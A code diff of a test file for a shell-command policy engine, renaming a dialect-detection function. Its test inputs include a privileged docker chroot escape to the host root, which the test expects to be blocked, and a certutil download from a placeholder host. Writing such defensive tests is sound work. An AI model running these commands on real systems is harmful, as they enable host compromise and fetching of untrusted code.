@@ -3,7 +3,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { compile_policy } from '#core/policy/compile.ts'
 import { BUILTIN_PACKS } from '#core/policy/packs/index.ts'
-import { detectDialect } from '#core/policy/parse/dialect.ts'
+import { detect_dialect } from '#core/policy/parse/dialect.ts'
 import { action_of_example } from '#core/policy/rules/prove.ts'
 
 const policy = compile_policy(BUILTIN_PACKS, { self: { ports: [8080], files: [] } })
@@ -45,9 +45,9 @@ test('a folder of the root is no switch of cmd', () => {
     'mkdir /a',
     'echo a; ls /b',
   ])
-    assert.equal(detectDialect(line), 'posix', line)
+    assert.equal(detect_dialect(line), 'posix', line)
   for (const line of ['cd /d D:\\app', 'rmdir /s /q build', 'cd .. && del /q x', 'copy a.txt C:\\b', 'echo %PATH%'])
-    assert.equal(detectDialect(line), 'cmd', line)
+    assert.equal(detect_dialect(line), 'cmd', line)
   assert.equal(verdict('cd . ; docker run -v /:/h --privileged alpine chroot /h sh'), 'block')
-  assert.equal(detectDialect('certutil.exe \\\n -urlcache -f https://x.example/b b'), 'posix')
+  assert.equal(detect_dialect('certutil.exe \\\n -urlcache -f https://x.example/b b'), 'posix')
 })
